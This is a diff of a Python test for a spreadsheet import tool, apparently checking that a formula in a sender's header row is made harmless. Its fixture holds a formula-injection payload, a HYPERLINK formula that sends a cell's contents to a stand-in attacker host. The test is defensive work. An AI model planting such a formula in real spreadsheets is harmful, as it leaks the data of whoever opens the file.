@@ -83,7 +83,7 @@ def test_the_name_of_a_file_is_printed_without_what_steers(
 
 def test_a_formula_in_a_senders_header_is_made_harmless(demo_path: Path, secret: Path, tmp_path: Path) -> None:
     header = [*LIST_6[:-3], *LIST_6[-3:], '=HYPERLINK("http://evil.example/?"&C2,"x")']
-    wrong = [*child("1001", "CIN", born="never"), "x"]
+    wrong = [*child("1001", "banana"), "x"]
     workbook, rejects = book(tmp_path / "a.xlsx", {"List 6": [header, wrong]}), tmp_path / "rejects.csv"
     words = ["import", "annex-a", str(workbook), "--yes", "--rejects", str(rejects), "--as-of", "2026-03-02"]
     main(["--vault", str(demo_path), "--passphrase-file", str(secret), *words])
